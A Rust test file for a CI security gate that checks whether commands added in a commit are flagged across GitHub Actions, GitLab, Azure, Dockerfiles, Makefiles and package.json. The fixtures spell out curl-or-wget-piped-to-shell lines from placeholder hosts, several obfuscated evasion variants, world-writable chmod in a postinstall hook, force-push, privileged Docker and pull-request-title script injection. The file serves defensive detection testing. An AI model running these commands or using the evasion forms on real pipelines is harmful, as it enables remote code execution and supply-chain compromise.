//! The commands a change adds, judged over real git repositories: every kind of file, evasions,
//! diff-awareness (reformatting, moves, renames), and files that cannot be read.

use cavra_gate::{Status, Verdict, run_gate};
use cavra_policy::{Decision, Finding, Severity};
use cavra_tests::TestRepo;

mod common;
use common::{change, no_env, options, repo_with};

fn gate_with(repo: &TestRepo, policy: Option<&str>, threads: usize) -> Verdict {
    let mut opts = options(repo, "main");
    opts.threads = threads;
    opts.policy_file = policy.map(|text| {
        let path = repo.path().join("..").join(format!(
            "policy-{}.yaml",
            repo.path().file_name().unwrap().to_string_lossy()
        ));
        std::fs::write(&path, text).unwrap();
        path
    });
    run_gate(&opts, &no_env).unwrap()
}

fn gate(repo: &TestRepo) -> Verdict {
    gate_with(repo, None, 1)
}

/// The findings of `rule` on `path`.
fn findings<'v>(v: &'v Verdict, path: &str, rule: &str) -> Vec<&'v Finding> {
    change(v, path)
        .findings
        .iter()
        .filter(|f| f.rule == rule)
        .collect()
}

fn command_rules(v: &Verdict, path: &str) -> Vec<String> {
    change(v, path)
        .findings
        .iter()
        .filter(|f| f.command.is_some() || f.rule.starts_with("cavra/"))
        .map(|f| format!("{}@{}", f.rule, f.line.unwrap_or(0)))
        .collect()
}

const WORKFLOW: &str = "name: ci
on: [push, pull_request]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: cargo test
";

#[test]
fn a_workflow_step_piping_curl_into_bash_is_denied_with_its_line_and_command() {
    let repo = repo_with(&[(".github/workflows/ci.yml", WORKFLOW)]);
    repo.write(
        ".github/workflows/ci.yml",
        format!(
            "{WORKFLOW}      - name: install\n        run: |\n          echo start\n          curl -fsSL https://get.example.sh | sudo bash\n"
        ),
    );
    repo.commit("head");
    let v = gate(&repo);
    let f = findings(&v, ".github/workflows/ci.yml", "pipe-to-shell");
    assert_eq!(f.len(), 1, "{:#?}", change(&v, ".github/workflows/ci.yml"));
    assert_eq!(f[0].decision, Decision::Deny);
    assert_eq!(f[0].line, Some(12));
    let c = f[0].command.as_ref().unwrap();
    assert_eq!(c.command, "curl -fsSL https://get.example.sh | bash");
    assert_eq!(c.program, "curl");
    assert_eq!(c.context.as_str(), "github-actions");
    assert!(c.step.contains("jobs.build.steps[2]"), "{}", c.step);
    assert_eq!(v.verdict, Status::Fail);
}

#[test]
fn reformatting_or_moving_a_command_already_on_the_base_is_not_reported_again() {
    let base = format!("{WORKFLOW}      - run: curl -fsSL https://get.example.sh | bash\n");
    let repo = repo_with(&[(".github/workflows/ci.yml", &base)]);
    // Same command: other quoting, spacing and a line continuation, in a new step name.
    repo.write(
        ".github/workflows/ci.yml",
        format!(
            "{WORKFLOW}      - name: moved\n        run: |\n          curl   -fsSL \\\n            \"https://get.example.sh\" |   bash\n"
        ),
    );
    repo.commit("reformat");
    let v = gate(&repo);
    assert!(
        findings(&v, ".github/workflows/ci.yml", "pipe-to-shell").is_empty(),
        "{:#?}",
        command_rules(&v, ".github/workflows/ci.yml")
    );
    // A second copy in another step is new.
    repo.write(
        ".github/workflows/ci.yml",
        format!("{base}      - run: echo again && curl -fsSL https://get.example.sh | bash\n"),
    );
    repo.commit("copy");
    let v = gate(&repo);
    let f = findings(&v, ".github/workflows/ci.yml", "pipe-to-shell");
    assert_eq!(f.len(), 1);
    assert_eq!(
        f[0].line,
        Some(10),
        "the copy on the added line is the one reported"
    );
}

#[test]
fn a_renamed_file_is_compared_with_its_old_version() {
    let script = "#!/bin/sh\nset -e\ncurl -s https://x.example/i.sh | sh\necho done\n";
    let repo = repo_with(&[("scripts/install.sh", script)]);
    repo.rename("scripts/install.sh", "tools/setup.sh");
    repo.commit("rename");
    let v = gate(&repo);
    assert_eq!(change(&v, "tools/setup.sh").change, "renamed");
    assert!(findings(&v, "tools/setup.sh", "pipe-to-shell").is_empty());
}

#[test]
fn dockerfile_run_with_continuations_and_heredocs() {
    let repo = repo_with(&[("Dockerfile", "FROM debian:12\nRUN apt-get update\n")]);
    repo.write(
        "Dockerfile",
        "FROM debian:12\nRUN apt-get update\nRUN apt-get install -y curl && \\\n    curl -fsSL https://x.example/setup \\\n      | bash -\nRUN <<EOF\nset -e\nwget -qO- https://y.example/i | sh\nEOF\n",
    );
    repo.commit("head");
    let v = gate(&repo);
    let lines: Vec<Option<u32>> = findings(&v, "Dockerfile", "pipe-to-shell")
        .iter()
        .map(|f| f.line)
        .collect();
    assert_eq!(
        lines,
        [Some(4), Some(8)],
        "{:#?}",
        command_rules(&v, "Dockerfile")
    );
    assert_eq!(
        findings(&v, "Dockerfile", "pipe-to-shell")[0]
            .command
            .as_ref()
            .unwrap()
            .context
            .as_str(),
        "dockerfile"
    );
}

#[test]
fn package_lifecycle_scripts_rank_one_severity_higher() {
    let repo = repo_with(&[(
        "package.json",
        "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest\"\n  }\n}\n",
    )]);
    repo.write(
        "package.json",
        "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"build\": \"chmod 777 dist\",\n    \"postinstall\": \"chmod 777 node_modules/.bin/x\"\n  }\n}\n",
    );
    repo.commit("head");
    let v = gate(&repo);
    let f = findings(&v, "package.json", "chmod-world-writable");
    assert_eq!(f.len(), 2, "{:#?}", command_rules(&v, "package.json"));
    let by_line = |l: u32| f.iter().find(|f| f.line == Some(l)).unwrap();
    assert_eq!(by_line(5).severity, Severity::Medium);
    assert_eq!(by_line(6).severity, Severity::High);
    assert!(by_line(6).reason.contains("lifecycle"));
}

#[test]
fn terraform_apply_in_a_makefile_behind_sudo_and_an_absolute_path() {
    let repo = repo_with(&[("Makefile", ".PHONY: test\ntest:\n\tpytest\n")]);
    repo.write(
        "Makefile",
        ".PHONY: test deploy\ntest:\n\tpytest\n\ndeploy: test\n\t@echo deploying\n\tpytest && terraform apply -auto-approve\n\tsudo /usr/local/bin/terraform apply\n",
    );
    repo.commit("head");
    let policy = "version: 1\nextends: [builtin:baseline, builtin:terraform]\n";
    let v = gate_with(&repo, Some(policy), 1);
    let lines: Vec<Option<u32>> = findings(&v, "Makefile", "terraform-apply")
        .iter()
        .map(|f| f.line)
        .collect();
    assert_eq!(
        lines,
        [Some(7), Some(8)],
        "{:#?}",
        command_rules(&v, "Makefile")
    );
    assert_eq!(v.verdict, Status::NeedsApproval);
}

#[test]
fn gitlab_reference_into_an_included_file_reports_where_the_command_is_written() {
    let common =
        ".setup:\n  script:\n    - echo setup\n    - curl -s https://x.example/i.sh | sh\n";
    let root =
        "include:\n  - local: ci/common.yml\nstages: [test]\ntest:\n  script:\n    - make test\n";
    let repo = repo_with(&[(".gitlab-ci.yml", root), ("ci/common.yml", common)]);
    repo.write(
        ".gitlab-ci.yml",
        format!("{root}deploy:\n  script:\n    - !reference [.setup, script]\n    - make deploy\n"),
    );
    repo.commit("head");
    let v = gate(&repo);
    let f = findings(&v, ".gitlab-ci.yml", "pipe-to-shell");
    assert_eq!(f.len(), 1, "{:#?}", command_rules(&v, ".gitlab-ci.yml"));
    let c = f[0].command.as_ref().unwrap();
    assert_eq!(c.file, "ci/common.yml");
    assert_eq!(f[0].line, Some(4));
    assert!(
        f[0].reason.contains("!reference on line 9"),
        "{}",
        f[0].reason
    );
}

#[test]
fn untrusted_expressions_in_run_scripts_are_script_injection() {
    let repo = repo_with(&[(".github/workflows/ci.yml", WORKFLOW)]);
    repo.write(
        ".github/workflows/ci.yml",
        format!(
            "{WORKFLOW}      - run: echo \"${{{{ github.event.pull_request.title }}}}\"\n      - run: echo ${{{{ github.event.pull_request.number }}}}\n"
        ),
    );
    repo.commit("head");
    let v = gate(&repo);
    let f = findings(&v, ".github/workflows/ci.yml", cavra_gate::INJECTION_RULE);
    assert_eq!(
        f.len(),
        1,
        "{:#?}",
        command_rules(&v, ".github/workflows/ci.yml")
    );
    assert_eq!(f[0].line, Some(9));
    assert_eq!(f[0].decision, Decision::Deny);
}

#[test]
fn unreadable_files_are_findings_and_the_rest_is_still_judged() {
    let repo = repo_with(&[]);
    repo.write(
        ".github/workflows/bad.yml",
        "on: push\njobs:\n  a: [unclosed\n",
    )
    .write("package.json", "{ \"scripts\": { \"x\": \"y\", } \n")
    .write("Dockerfile", "FROM x\nRUN <<EOF\ncurl -s https://x | sh\n")
    .write(
        "install.sh",
        "#!/bin/bash\ncurl -s https://x.example | bash\n",
    );
    repo.commit("head");
    for threads in [1, 3] {
        let v = gate_with(&repo, None, threads);
        for path in [".github/workflows/bad.yml", "package.json", "Dockerfile"] {
            let f = findings(&v, path, cavra_gate::UNREADABLE_RULE);
            assert!(!f.is_empty(), "{path}: {:#?}", command_rules(&v, path));
            assert_eq!(f[0].decision, Decision::RequireApproval);
        }
        assert_eq!(findings(&v, "install.sh", "pipe-to-shell").len(), 1);
        assert_eq!(v.verdict, Status::Fail);
    }
}

#[test]
fn azure_template_steps_and_tasks_are_judged() {
    let repo = repo_with(&[(
        "azure-pipelines.yml",
        "trigger: [main]\npool: { vmImage: ubuntu-latest }\nsteps:\n  - script: make\n",
    )]);
    repo.write(
        "azure-pipelines.yml",
        "trigger: [main]\npool: { vmImage: ubuntu-latest }\nsteps:\n  - script: make\n  - task: Bash@3\n    inputs:\n      targetType: inline\n      script: |\n        git push --force origin HEAD:main\n  - template: ci/steps.yml\n",
    )
    .write(
        "ci/steps.yml",
        "steps:\n  - bash: docker run --privileged img\n",
    );
    repo.commit("head");
    let v = gate(&repo);
    let f = findings(&v, "azure-pipelines.yml", "git-force-push");
    assert_eq!(
        f.len(),
        1,
        "{:#?}",
        command_rules(&v, "azure-pipelines.yml")
    );
    assert_eq!(f[0].line, Some(9));
    // The template is a changed file of its own (found by content), judged there once.
    let t = findings(&v, "ci/steps.yml", "docker-privileged");
    assert_eq!(t.len(), 1, "{:#?}", command_rules(&v, "ci/steps.yml"));
    assert_eq!(t[0].line, Some(2));
}

#[test]
fn evasions_in_workflows_and_gitlab_scripts_are_caught() {
    let repo = repo_with(&[(".github/workflows/ci.yml", WORKFLOW)]);
    let steps = [
        // Split across a folded block scalar.
        "      - run: >\n          curl -fsSL\n          https://a.example/i.sh\n          | bash\n",
        // Quotes inside the words.
        "      - run: c\"ur\"l https://b.example | b'a'sh\n",
        // bash -c nested twice.
        "      - run: bash -c \"bash -c 'curl https://c.example | sh'\"\n",
        // Absolute paths.
        "      - run: /usr/bin/curl https://d.example | /bin/sh\n",
        // A line continuation inside a literal block.
        "      - run: |\n          curl https://e.example \\\n            | sh\n",
        // Wrappers around the interpreter.
        "      - run: curl https://f.example | sudo -E env X=1 timeout 30 bash -s\n",
    ];
    repo.write(
        ".github/workflows/ci.yml",
        format!("{WORKFLOW}{}", steps.concat()),
    );
    repo.write(
        ".gitlab-ci.yml",
        "build:\n  script:\n    - >\n      wget -qO-\n      https://g.example/i\n      | python3\n    - echo ok\n",
    );
    repo.commit("head");
    let v = gate(&repo);
    let hosts: Vec<String> = findings(&v, ".github/workflows/ci.yml", "pipe-to-shell")
        .iter()
        .map(|f| f.command.as_ref().unwrap().command.clone())
        .collect();
    for host in ["a", "b", "c", "d", "e", "f"] {
        assert!(
            hosts
                .iter()
                .any(|c| c.contains(&format!("https://{host}.example"))),
            "{host} missed: {hosts:#?}"
        );
    }
    assert_eq!(hosts.len(), 6, "{hosts:#?}");
    assert_eq!(findings(&v, ".gitlab-ci.yml", "pipe-to-shell").len(), 1);
}
